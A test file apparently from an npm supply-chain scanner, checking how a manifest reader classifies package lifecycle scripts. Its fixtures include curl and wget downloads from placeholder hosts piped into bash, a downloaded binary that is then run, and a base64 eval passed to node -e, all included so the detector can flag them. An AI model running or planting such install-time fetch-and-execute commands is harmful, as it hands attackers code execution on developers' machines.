import { describe, expect, it } from 'vitest'
import { readManifest } from '../../src/npm/index.js'
import { pkgJson } from './helpers.js'

const steps = (scripts: Record<string, string>, path = 'node_modules/x/package.json') =>
  readManifest(path, pkgJson(scripts)).scripts.map((s) => ({ name: s.name, line: s.line, steps: s.steps.map((x) => `${x.kind}${x.file !== undefined ? `:${x.file}` : ''}`) }))

describe('readManifest', () => {
  it('reads identity, bin, main and only lifecycle scripts, with their lines', () => {
    const m = readManifest('node_modules/@s/x/package.json', JSON.stringify({ name: '@s/x', version: '2.0.0', main: './lib/index.js', bin: { x: 'bin/x.js' }, gypfile: true, scripts: { test: 'vitest', postinstall: 'node install.js' } }, null, 2))
    expect(m).toMatchObject({ name: '@s/x', version: '2.0.0', root: 'node_modules/@s/x', main: 'node_modules/@s/x/lib/index.js', bin: ['node_modules/@s/x/bin/x.js'], gypfile: true })
    expect(m.scripts.map((s) => `${s.name}@${s.line}`)).toEqual(['postinstall@11'])
  })

  it('classifies what each step runs', () => {
    expect(steps({ preinstall: 'node ./scripts/check.js --quiet && node-gyp rebuild', install: 'prebuild-install || node-gyp rebuild', prepare: 'husky install', postinstall: 'sh ./setup.sh; echo done' })).toEqual([
      { name: 'preinstall', line: 5, steps: ['node-file:node_modules/x/scripts/check.js', 'native-build'] },
      { name: 'install', line: 6, steps: ['native-build', 'native-build'] },
      { name: 'postinstall', line: 8, steps: ['shell-file:node_modules/x/setup.sh', 'benign'] },
      { name: 'prepare', line: 7, steps: ['benign'] },
    ])
  })

  it('recognises downloads piped into shells, and downloaded files that are run', () => {
    expect(steps({ postinstall: 'curl -fsSL https://get.example.sh | bash' })[0]?.steps).toEqual(['remote-pipe'])
    expect(steps({ postinstall: 'sh -c "$(wget -qO- https://x.example/i.sh)"' })[0]?.steps).toEqual(['remote-pipe'])
    expect(steps({ preinstall: 'wget -O /tmp/u https://x.example/u && chmod +x /tmp/u && /tmp/u' })[0]?.steps).toEqual(['download', 'download-exec', 'download-exec'])
  })

  it('analyses node -e code, resolving its requires from the package root', () => {
    const m = readManifest('node_modules/core-js/package.json', pkgJson({ postinstall: `node -e "try{require('./postinstall')}catch(e){}"` }))
    const step = m.scripts[0]?.steps[0]
    expect(step?.kind).toBe('node-inline')
    expect(step?.inline?.requires).toEqual([{ specifier: './postinstall', line: 1, kind: 'require' }])
    const evil = readManifest('package.json', pkgJson({ install: `node -e "eval(Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString())"` }))
    expect(evil.scripts[0]?.steps[0]?.inline?.dynamicCode[0]).toMatchObject({ api: 'eval', argument: 'decoded', decoder: 'base64' })
  })

  it('follows npm run into the named script', () => {
    expect(steps({ postinstall: 'npm run setup', setup: 'node tools/fetch.js' })[0]?.steps).toEqual(['node-file:node_modules/x/tools/fetch.js'])
  })

  it('invalid JSON is a fact, not an exception', () => {
    const m = readManifest('package.json', '{ "name": "x", ')
    expect(m.error).toMatch(/^invalid JSON/)
    expect(m.scripts).toEqual([])
    expect(readManifest('package.json', '[1,2]').error).toBe('package.json is not a JSON object')
  })
})
